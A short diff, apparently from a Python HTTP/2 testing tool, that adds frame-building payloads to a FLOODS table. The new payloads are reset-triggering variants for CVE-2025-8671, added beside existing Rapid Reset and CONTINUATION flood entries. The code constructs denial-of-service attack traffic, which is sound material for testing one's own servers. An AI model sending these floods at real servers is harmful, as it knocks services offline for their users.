@@ -213,6 +213,18 @@ FLOODS: dict[str, Callable[[int], bytes]] = {
     "resets (CVE-2023-44487)": lambda number: (
         frame(HEADERS, END_HEADERS, 2 * number + 1, fields()) + frame(RST_STREAM, 0, 2 * number + 1, b"\0\0\0\10")
     ),
+    "resets that a window brings about (CVE-2025-8671)": lambda number: (
+        frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, fields())
+        + frame(WINDOW_UPDATE, 0, 2 * number + 1, bytes(4))
+    ),
+    "resets that late data bring about (CVE-2025-8671)": lambda number: (
+        frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, fields()) + frame(DATA, 0, 2 * number + 1, b"x")
+    ),
+    "resets that wrong trailers bring about (CVE-2025-8671)": lambda number: (
+        frame(HEADERS, END_HEADERS, 2 * number + 1, fields())
+        + frame(DATA, 0, 2 * number + 1, b"x")
+        + frame(HEADERS, END_HEADERS, 2 * number + 1, fields())
+    ),
     "continuations (CVE-2024-27316)": lambda number: (
         frame(CONTINUATION, 0, 1, b"") if number else frame(HEADERS, 0, 1, b"")
     ),
